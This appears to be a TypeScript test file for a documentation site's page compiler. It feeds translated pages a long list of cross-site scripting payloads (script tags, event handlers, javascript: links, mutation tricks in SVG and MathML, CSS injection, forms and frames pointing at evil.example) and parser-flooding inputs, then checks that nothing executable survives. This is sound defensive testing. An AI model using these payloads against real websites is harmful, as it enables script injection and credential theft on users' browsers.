import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { loadContentStrings } from "~/l10n/content-strings.server";
import { createDocumentsService } from "~/services/documents/index.server";
import {
  compileSite,
  type CompiledSite,
  type FixturePage,
} from "../support/compile-site";
import { listExecutable } from "../support/list-executable";
import { withoutOurForms } from "../support/without-our-forms";

/**
 * Translations are written by strangers, so nothing in them may run on the site's origin. Each row
 * is a page, compiled for real and parsed as a browser does.
 */
const RUN = "alert(1)";
const BODIES: Record<string, string> = {
  script: `<script>${RUN}</script>`,
  "script in a table": `<table><tr><td><script>${RUN}</script></td></tr></table>`,
  "script in SVG": `<svg><script>${RUN}</script></svg>`,
  "script in SVG with a link": `<svg><script xlink:href="data:,${RUN}"></script></svg>`,
  "script in MathML": `<math><mtext><script>${RUN}</script></mtext></math>`,
  "event handler": `<img src=x onerror=${RUN}>`,
  "event handler in capitals": `<IMG SRC=x ONERROR=${RUN}>`,
  "event handler behind a slash": `<img/src=x/onerror=${RUN}>`,
  "event handler behind a line break": `<div\nonclick\n=\n${RUN}>x</div>`,
  "event handler in SVG": `<svg onload=${RUN}><g onclick=${RUN}></g></svg>`,
  "event handler in MathML": `<math><mi onclick=${RUN}>x</mi></math>`,
  "event handler of details": `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  "link that runs": `<a href="javascript:${RUN}">x</a>`,
  "link in Markdown": `[x](javascript:${RUN}) [y](<java\tscript:${RUN}>) <javascript:${RUN}>`,
  "link with a tab": `<a href="java&#9;script:${RUN}">x</a>`,
  "link with a control": `<a href="&#1;javascript:${RUN}">x</a>`,
  "link with a zero-width space": `<a href="java&#x200b;script:${RUN}">x</a>`,
  "link with an entity": `<a href="javascript&colon;${RUN}">x</a>`,
  "link to data": `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  "link of Visual Basic": `<a href="vbscript:${RUN}">x</a>`,
  "link in SVG": `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  "link in MathML": `<math><mrow href="javascript:${RUN}">x</mrow></math>`,
  "link of an area": `<map name=m><area href="javascript:${RUN}"></map>`,
  "link that tells another site": `<a href="/en-US/docs/Web" ping="https://evil.example/">x</a>`,
  "reference to data in SVG": `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  "image in SVG": `<svg><image href="data:image/svg+xml,x" /><feImage href="data:text/html,x"/></svg>`,
  "animation of a link": `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`,
  "animation to a link": `<svg><a id=x><set attributeName="xlink:href" to="javascript:${RUN}"/></a></svg>`,
  "animation from elsewhere": `<svg><animate href=#x attributeName=href from=x to="javascript:${RUN}"/></svg>`,
  "SVG foreignObject": `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  style: `<style>@import "https://evil.example/";</style>`,
  "style in SVG": `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  "frame with a document": `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  "frame that runs": `<iframe src="javascript:${RUN}"></iframe><iframe src="data:text/html,x"></iframe>`,
  "form to elsewhere": `<form action="https://evil.example/"><input name=password></form>`,
  "form to the site itself": `<form method=post action="/api/v1/settings"><button>x</button></form>`,
  "button with a target": `<button formaction="javascript:${RUN}" form=f>x</button>`,
  "input with a target": `<input type=image formaction="/users/signout" src=x>`,
  refresh: `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  base: `<base href="https://evil.example/">`,
  link: `<link rel=stylesheet href="https://evil.example/x.css"><link rel=import href=x>`,
  object: `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}"><applet code=x></applet>`,
  template: `<template shadowrootmode=open><script>${RUN}</script></template>`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  plaintext: `<plaintext><img src=x onerror=${RUN}>`,
  xmp: `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  noembed: `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  "noframes in SVG": `<svg><noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes></svg>`,
  textarea: `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  "textarea in SVG": `<svg><textarea><b title="</textarea><img src=x onerror=${RUN}>"></b></textarea></svg>`,
  title: `<svg><title><b title="</title><img src=x onerror=${RUN}>"></b></title></svg>`,
  "frame's fallback": `<iframe><p title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
  select: `<select><template><img src=x onerror=${RUN}></template><script>${RUN}</script></select>`,
  comment: `<!--><img src=x onerror=${RUN}>--> <!-- --!><img src=x onerror=${RUN}> -->`,
  "comment in SVG": `<svg><!--<p>--><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;"></svg>`,
  "CDATA in SVG": `<svg><![CDATA[</svg><img src=x onerror=${RUN}>]]></svg>`,
  "processing instruction": `<?x ><img src=x onerror=${RUN}>?>`,
  "annotation in MathML": `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${RUN}>"></style></annotation-xml></math>`,
  "annotation in SVG type": `<math><annotation-xml><svg><desc><img src=x onerror=${RUN}></desc></svg></annotation-xml></math>`,
  "glyphs of MathML": `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}></style></mglyph></form></mtext></math>`,
  "table in MathML": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  "paragraph out of SVG": `<svg></p><style><a title="</style><img src=x onerror=${RUN}>">`,
  "unknown element": `<x><img src=x onerror=${RUN}></x><math><mtext><y><mglyph><style><img src=x onerror=${RUN}>`,
  "odd names": `<a-b"onclick=${RUN}><p =onclick=${RUN} "onclick=${RUN} 'x'onclick=${RUN}>x</p></a-b>`,
  "named like a property": `<img name=querySelector src=x><form name=getElementById></form><iframe name=cookie></iframe>`,
  "placeholder forgery": `\u00910\u0092 <img alt="\u0091" src=x>`,
  "code with markup": "```html\n</code></pre><script>alert(1)</script>\n```",
  "code with an info string": '```"><script>alert(1)</script>\nx\n```',
  "code with a class": '```js example-good"onclick="alert(1)\nx\n```',
  "alternative text": `![x" onerror="${RUN}](x.png "y' onerror='${RUN}")`,
  "note label": `> [!NOTE]\n> <img src=x onerror=${RUN}>`,
  heading: `## <img src=x onerror=${RUN}> {{cssxref("x", "<img src=x onerror=${RUN}>")}}`,
  "heading with an id": `<h2 id='x"><script>${RUN}</script>'>x</h2>\n\nx`,
  "compatibility table by hand": `x\n\n<div class="bc-data" data-query='"><script>${RUN}</script>'></div>`,
  "many tables by hand": `x\n\n<div class="bc-data" data-multiple="true" data-query='<script>${RUN}</script>'></div>`,
  "specification by hand": `x\n\n<div class="bc-specs" data-spec-urls="javascript:${RUN}//"></div>`,
  "specification with data": `x\n\n<div class="bc-specs" data-spec-urls="data:text/html;base64;x"></div>`,
  "style that covers the page": `<div style="position:fixed;inset:0;z-index:99">x</div><p style="pos\\69tion:fixed">x</p>`,
  "picture that covers the page": `<svg width=1 height=1 overflow="Visible" style="overflow:visible"><a href="#x"><rect x="-3000" y="-3000" width="6000" height="6000"/></a></svg>`,
  "style behind a comment": `<p style="color:red;/*;*/position/**/:fixed">x</p><p style="color:/*;position:fixed">x</p>`,
  "style behind an open quote": `<p style="font-family:'x;position:fixed;color:red'">x</p><p style="color:rgb(0;position:fixed">x</p>`,
  "style that loads": `<p style="background:url(https://evil.example/x)">x</p><p style="background:u\\72l(x)">x</p><p style="--x:image-set('x' 1x)">x</p>`,
  "style that pulls": `<p style="margin-top:-900px;transform:scale(99)">x</p><p style="--y:-9px;margin:var(--y)">x</p>`,
  "frame of a stranger": `<iframe src="https://evil.example/"></iframe><iframe src="//evil.example/"></iframe><iframe src="/\t/evil.example"></iframe><iframe src="/\\evil.example"></iframe><iframe src="https://mdn.github.io@evil.example/"></iframe><iframe src="https://mdn.github.io.evil.example/"></iframe>`,
  "frame by an upper-case scheme": `<iframe src="HTTPS://evil.example/"></iframe><iframe src=" javascript:${RUN}"></iframe>`,
  "set of sources": `<img srcset="javascript:${RUN} 1x, x.png 2x"><picture><source srcset="data:text/html,x 1x"></picture>`,
  "fields of the site's own form": `<input form=search name=q value=x><button form=search formmethod=post>x</button>`,
  "form without a target": `<form method=post><input type=password name=p><button>x</button></form>`,
  "form in a table": `<table><form><tr><td><input></td></tr></form></table>`,
  "over the page": `<div popover id=p>x</div><button popovertarget=p commandfor=p command=show-modal interestfor=p>x</button><dialog open>x</dialog>`,
  "registered sources": `<a href="#x" attributionsrc="https://evil.example/">x</a><img src=x.png attributionsrc>`,
  "keys and focus": `<a href="#x" accesskey=s autofocus tabindex=1>x</a>`,
  "shapes from elsewhere": `<svg><use href="https://evil.example/x.svg#a"/><use xlink:href="/x.svg#a"/><feImage href="https://evil.example/x"/></svg>`,
  "paint from elsewhere": `<svg><rect fill="url(https://evil.example/#a)" mask="url('//evil.example/#b')" filter="u\\72l(x)" stroke="url(#ok)"/></svg>`,
  "ids of the page": `<h2 id=article-body>x</h2>\n\n<p id=Content>x</p><p id=sidebar-quicklinks>x</p><p id=toc-title>x</p>`,
  "noscript in SVG": `<svg><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript></svg>`,
  "style in MathML": `<math><mi><style><!--</style><img title="--&gt;<img src=x onerror=${RUN}>"></mi></math>`,
  "title in an annotation": `<math><annotation-xml><title><a id="</title><img src=x onerror=${RUN}>"></title></annotation-xml></math>`,
  "nested forms and glyphs": `<form id=a></form><math><mtext><form><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=${RUN}>"></a></textarea></mtext></svg></mglyph></form></mtext></math>`,
  "template in a template": `<template><template><img src=x onerror=${RUN}></template></template><div><template shadowrootmode=open><slot name=x></template></div>`,
  "entities in a scheme": `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}">x</a><a href="&Tab;java&NewLine;script&colon;${RUN}">x</a>`,
  "links after a table": `<table><a href="javascript:${RUN}"><tr><td><p></a>x</table>`,
  "quick links": `<section id="Quick_links"><ol><li><a href="javascript:${RUN}" onclick=${RUN}>x</a></li></ol></section>`,
};

const PAYLOAD = `<img src=x onerror=${RUN}><svg><script>${RUN}</script></svg>`;
const MACROS = [
  `cssxref("x", "${PAYLOAD}", "${PAYLOAD}")`,
  `cssxref("x&quot; onclick=&quot;${RUN}")`,
  `cssxref('x" onclick="${RUN}')`,
  `domxref("${PAYLOAD}", "${PAYLOAD}", "${PAYLOAD}", 1)`,
  `jsxref("${PAYLOAD}", "${PAYLOAD}", "${PAYLOAD}", 1)`,
  `HTMLElement("${PAYLOAD}", "${PAYLOAD}", '" onclick="${RUN}')`,
  `SVGElement("${PAYLOAD}")`,
  `MathMLElement("${PAYLOAD}")`,
  `SVGAttr("${PAYLOAD}")`,
  `HTTPHeader("${PAYLOAD}", "${PAYLOAD}", "${PAYLOAD}")`,
  `HTTPStatus('" onclick="${RUN}')`,
  `CSP("${PAYLOAD}")`,
  `Glossary("${PAYLOAD}", "${PAYLOAD}")`,
  `Glossary("javascript:${RUN}")`,
  `RFC(1, "${PAYLOAD}", '" onclick="${RUN}')`,
  `EmbedYouTube('" onload="${RUN}', "${PAYLOAD}")`,
  `EmbedYouTube("javascript:${RUN}", '" onload="${RUN}')`,
  `EmbedGHLiveSample("javascript:${RUN}", '" onload="${RUN}', '"><script>${RUN}</script>')`,
  `EmbedGHLiveSample('" onload="${RUN}', 1, 2)`,
  `WebExtAPIRef("${PAYLOAD}", "${PAYLOAD}", "${PAYLOAD}")`,
  `Previous("${PAYLOAD}")`,
  `PreviousNext("${PAYLOAD}", "${PAYLOAD}")`,
  `NextMenu("${PAYLOAD}", "${PAYLOAD}")`,
  `ListSubpages("${PAYLOAD}", 1)`,
  `AvailableInWorkers("${PAYLOAD}")`,
  `js_property_attributes("${PAYLOAD}", "${PAYLOAD}", "${PAYLOAD}")`,
  `Compat("${PAYLOAD}")`,
  `Specifications("${PAYLOAD}")`,
  `CSSInfo("${PAYLOAD}")`,
  `InheritanceDiagram("${PAYLOAD}")`,
  `SeeCompatTable("${PAYLOAD}")`,
  `Deprecated_Header("${PAYLOAD}")`,
  `APIRef("${PAYLOAD}")`,
  `DefaultAPISidebar("${PAYLOAD}")`,
  `EmbedLiveSample("${PAYLOAD}", "${PAYLOAD}", "${PAYLOAD}")`,
  `InteractiveExample("${PAYLOAD}", "${PAYLOAD}")`,
  `${PAYLOAD}("x")`,
];

const PAGES: Record<string, FixturePage> = {
  "its title": { title: `<script>${RUN}</script> \`<img src=x onerror=${RUN}>\`` },
  "its short title": { frontMatter: `short-title: ${JSON.stringify(PAYLOAD)}` },
  "its page type": { frontMatter: `page-type: ${JSON.stringify(PAYLOAD)}` },
  "its banners": {
    frontMatter: `banners:\n  - securecontext_header: [${JSON.stringify(PAYLOAD)}]\n  - ${JSON.stringify(PAYLOAD)}\n  - cssxref: ["x", ${JSON.stringify(PAYLOAD)}]`,
  },
  "its features": {
    frontMatter: `browser-compat: ${JSON.stringify(PAYLOAD)}`,
    body: "x\n\n{{Compat}}\n\n{{Specifications}}",
  },
  "its specifications": {
    frontMatter: `spec-urls:\n  - "javascript:${RUN}//"\n  - "data:text/html,x"\n  - 'https://x.example/"><script>${RUN}</script>'`,
    body: "x\n\n{{Specifications}}",
  },
  "names that every object has": {
    frontMatter:
      "browser-compat: [constructor, __proto__.toString]\nsidebar: [constructor, __proto__]\nbanners: [toString, __proto__]",
    body: `{{Compat}} {{constructor("x")}} {{__proto__}} {{toString}} {{cssxref("&constructor;")}} {{jsxref("__proto__")}} {{CSSInfo("constructor")}}\n\n{{Specifications}}`,
  },
  "the titles of other pages": {
    frontMatter: "sidebar: hostile",
    body: '{{ListSubpages("/de/docs/Web")}} {{PreviousNext("Web/Titled", "Web/Titled")}}\n\n{{ListSubpagesForSidebar("/de/docs/Web")}}',
  },
  "its sidebar": {
    frontMatter: `sidebar:\n  - ${JSON.stringify(PAYLOAD)}\n  - apiref: [${JSON.stringify(PAYLOAD)}]`,
  },
};

const TITLE = JSON.stringify(PAYLOAD);
const SIDEBAR = `sidebar:
  - title: ${TITLE}
    link: "javascript:${RUN}"
    children:
      - title: ${TITLE}
        link: '/Web/x" onclick="${RUN}'
      - link: /Web/Titled
        title: label
      - type: listSubPages
        path: /Web
l10n:
  de:
    label: ${TITLE}
`;

const ROWS: [name: string, page: FixturePage][] = [
  ...Object.entries(BODIES).map(([name, body]): [string, FixturePage] => [
    name,
    { body },
  ]),
  ...MACROS.map((call): [string, FixturePage] => [
    `{{${call.replace(/[<(].*$/s, "")}}} ${MACROS.indexOf(call)}`,
    {
      body: `Before.\n\n## {{${call}}}\n\n{{${call}}}\n\n- <b title="{{${call}}}">x</b>\n\n![{{${call}}}](x.png)`,
    },
  ]),
  ...Object.entries(PAGES),
];

describe("no script runs on a page with", () => {
  let site: CompiledSite;

  beforeAll(async () => {
    const pages = ROWS.map(([, page], at) => [`/de/docs/Web/Row${at}`, page] as const);
    site = await compileSite({
      pages: {
        "/en-US/docs/Web": "Root.",
        "/de/docs/Web": { title: PAYLOAD },
        "/de/docs/Web/Titled": { title: PAYLOAD },
        ...Object.fromEntries(pages),
      },
      files: { "sidebars/hostile.yaml": SIDEBAR },
    });
  });

  afterAll(() => site.remove());

  test("(the hostile sidebar and titles do reach a page)", () => {
    const at = ROWS.findIndex(([name]) => name === "the titles of other pages");
    const found = site.store.findDocument(`/de/docs/Web/Row${at}`);
    const sidebar = site.store.findSidebar(found?.sidebarId ?? -1)?.html ?? "";
    expect(sidebar.split("&lt;img src=x").length).toBeGreaterThan(3);
    expect(site.getProse(`/de/docs/Web/Row${at}`)).toContain("&lt;img src=x");
  });

  test.each(ROWS.map(([name], at) => [name, at] as const))("%s", (_name, at) => {
    const service = createDocumentsService({
      store: () => site.store,
      translate: loadContentStrings(),
    });
    const page = service.findDocumentPage(`/de/docs/Web/Row${at}`);
    expect(page).not.toBeNull();
    const { document, articleHtml = "", sidebarHtml } = page ?? {};
    const places = [
      withoutOurForms(articleHtml),
      sidebarHtml ?? "",
      document?.titleHTML ?? "",
      ...(document?.toc.map(({ text }) => text) ?? []),
    ];
    expect(places.flatMap(listExecutable)).toEqual([]);
    expect(site.flaws.filter(({ check }) => check === "crash")).toEqual([]);
  });
});

/** Sources that could exhaust time or stack of a naive compiler. */
const FLOOD = 10_000;
const BOMBS: Record<string, FixturePage> = {
  "quotes in quotes": { body: `${"> ".repeat(FLOOD)}x` },
  "lists in lists": { body: listDeep(800) },
  "open brackets": {
    body: `${"[".repeat(FLOOD)}${"![".repeat(FLOOD)}${"[a](".repeat(FLOOD)}`,
  },
  "open emphasis": { body: "*a **b _c ".repeat(FLOOD) },
  "open tags": { body: `${"<".repeat(FLOOD)}${"<a ".repeat(FLOOD)}` },
  "open braces": {
    body: `${"{{".repeat(FLOOD)}${"{{a(".repeat(FLOOD)}${'{{a("'.repeat(FLOOD)}`,
  },
  "10,000 calls": { body: '{{cssxref("nope")}} {{nope}} '.repeat(5_000) },
  "elements in elements": { body: "<div><b>".repeat(FLOOD) },
  "shapes in shapes": { body: `<svg>${"<g>".repeat(FLOOD)}` },
  "tables in tables": { body: "<table><tr><td>".repeat(3_000) },
  "a line of a megabyte": { body: "word ".repeat(200_000) },
  "code that never ends": { body: `\`\`\`js\n${"/* ( ` ".repeat(FLOOD)}\n\`\`\`` },
  "a title of backticks": { title: "`".repeat(FLOOD + 1) },
  "aliases without an anchor": { frontMatter: "banners: *nowhere" },
  "lists of lists in front matter": { frontMatter: `banners: ${"[".repeat(FLOOD)}` },
  "thousands of mistakes in front matter": {
    frontMatter: `browser-compat:\n${"  - {a: 1}\n".repeat(5_000)}`,
  },
};

/** Input that the compiler cuts or skips, with the expected flaw. */
const CUTS: [name: string, body: string, flaw: { check: string; line: number | null }][] =
  [
    ["elements too deep", "<div>".repeat(FLOOD), { check: "cut-content", line: null }],
    ["closed elements too deep", nestElements(513), { check: "cut-content", line: null }],
    [
      "open elements too deep",
      "<p>".repeat(9) + "<b>".repeat(600),
      { check: "cut-content", line: null },
    ],
    [
      "a tag that is never closed",
      `One.\n\nTwo.\n\n${"<div ".repeat(50_000)}`,
      { check: "cut-content", line: 10 },
    ],
    [
      "a comment that is never closed",
      "One.\n\n<!-- Two.\n\nThree.",
      { check: "cut-content", line: 8 },
    ],
    [
      "a quotation mark that is never closed",
      'One.\n\n<div title="Two>\n\nThree.\n\n</div>',
      { check: "cut-content", line: 8 },
    ],
    [
      "quotes too deep",
      `One.\n\n${"> ".repeat(FLOOD)}x`,
      { check: "cut-content", line: 8 },
    ],
    ["lists too deep", `One.\n\n${listDeep(400)}`, { check: "cut-content", line: 57 }],
  ];

test("each cut is reported in one line with its position", async () => {
  const urls = CUTS.map((_, at) => `/en-US/docs/Cut${at}`);
  const site = await compileSite({
    pages: Object.fromEntries(CUTS.map(([, body], at) => [urls[at] ?? "", body])),
  });
  const found = CUTS.map(([name], at) => ({
    name,
    flaws: site.flaws.filter(({ file }) => file === `en-us/cut${at}/index.md`),
  }));
  site.remove();
  expect(
    found.map(({ name, flaws }) => [
      name,
      flaws.map(({ check, line }) => ({ check, line })),
    ]),
  ).toEqual(CUTS.map(([name, , flaw]) => [name, [flaw]]));
  for (const { flaws } of found)
    for (const { message } of flaws) expect(message).not.toMatch(/\n|RangeError/);
}, 60_000);

test("shows a page with 512 levels of elements, as deep as browsers' own parsers nest", async () => {
  const site = await compileSite({ pages: { "/en-US/docs/Deep": nestElements(512) } });
  const flaws = site.flaws.filter(({ file }) => file === "en-us/deep/index.md");
  const prose = site.getProse("/en-US/docs/Deep");
  site.remove();
  expect(flaws).toEqual([]);
  expect(prose).toContain("Deep inside.");
});

function nestElements(levels: number): string {
  return `${"<div>".repeat(levels)}Deep inside.${"</div>".repeat(levels)}`;
}

test("reports a merge conflict where it begins, in code too, and no signs alone", async () => {
  const conflict = "<<<<<<< HEAD\nMine.\n=======\nTheirs.\n>>>>>>> other";
  const site = await compileSite({
    pages: {
      "/en-US/docs/Text": `One.\n\n${conflict}\n\n${conflict}`,
      "/en-US/docs/Code": `\`\`\`js\n${conflict}\n\`\`\``,
      "/en-US/docs/Signs": "<<<<<<< a\n\nHeading\n=======\n\nText.",
    },
  });
  site.remove();
  expect(
    site.flaws
      .filter(({ check }) => check === "merge-conflict")
      .map(({ file, line, column }) => [file, line, column]),
  ).toEqual([
    ["en-us/code/index.md", 7, 1],
    ["en-us/text/index.md", 8, 1],
  ]);
});

test("reports nothing for pages without cuts", async () => {
  const bodies = [
    "<details>\n\nOpen to the end.",
    "Text <!-- a comment --> and <b>bold.",
    `${"> ".repeat(40)}x\n\n${listDeep(30)}`,
    "<table><tr><td>No end tags",
    "The sign \uFFFD itself.",
  ];
  const site = await compileSite({
    pages: Object.fromEntries(bodies.map((body, at) => [`/en-US/docs/P${at}`, body])),
  });
  site.remove();
  expect(site.flaws).toEqual([]);
});

test("reports skipped input: bytes, links, folders, and unreadable files", async () => {
  const site = await compileSite({
    pages: { "/en-US/docs/Web": "Root." },
    files: {
      "en-us/bytes/index.md": Buffer.from(
        "---\ntitle: B\nslug: Bytes\n---\n\nOne \xff two.\n",
        "latin1",
      ),
      "en-us/folder/index.md/x.md": "x",
    },
    links: { "en-us/link/index.md": "en-us/web/index.md", "en-us/linked": "en-us/web" },
  });
  const flaws = site.flaws.map(({ check, file, line }) => [file, check, line].join(" "));
  const urls = site.store.listDocumentUrls("en-US").map(({ url }) => url);
  site.remove();
  expect(flaws.toSorted()).toEqual([
    "en-us/bytes/index.md encoding 6",
    "en-us/folder/index.md unread-file ",
    "en-us/link/index.md unread-file ",
    "en-us/linked unread-file ",
  ]);
  expect(urls).toEqual(["/en-US/docs/Bytes", "/en-US/docs/Web"]);
});

test("reads no data file of a language through a link", async () => {
  const site = await compileSite({
    pages: { "/en-US/docs/Web": "Root." },
    files: {
      "moved.txt": "/en-US/docs/Old\t/en-US/docs/Web\n",
      "authors.json": '{"Web":{"contributors":["stranger"]}}',
    },
    links: {
      "en-us/_redirects.txt": "moved.txt",
      "en-us/_wikihistory.json": "authors.json",
    },
  });
  const flaws = site.flaws.map(({ check, file }) => `${file} ${check}`);
  const moved = site.store.findRedirect("/en-US/docs/Old");
  const { contributors } = site.getDocument("/en-US/docs/Web");
  site.remove();
  expect(flaws.toSorted()).toEqual([
    "en-us/_redirects.txt unread-file",
    "en-us/_wikihistory.json unread-file",
  ]);
  expect(moved).toBeNull();
  expect(contributors).toEqual([]);
});

function listDeep(depth: number): string {
  return Array.from({ length: depth }, (_, at) => `${"  ".repeat(at)}- x`).join("\n");
}

test("a page that floods the compiler affects no other page", async () => {
  const bombs = Object.values(BOMBS).map(
    (page, at) => [`/de/docs/Web/B${at}`, page] as const,
  );
  const site = await compileSite({
    pages: {
      "/en-US/docs/Web": "Root.",
      ...Object.fromEntries(bombs),
      "/de/docs/Web/Last": "Still here.",
    },
  });
  expect(site.getProse("/de/docs/Web/Last")).toContain("Still here.");
  expect(site.flaws.filter(({ check }) => check === "crash")).toEqual([]);
  site.remove();
}, 60_000);
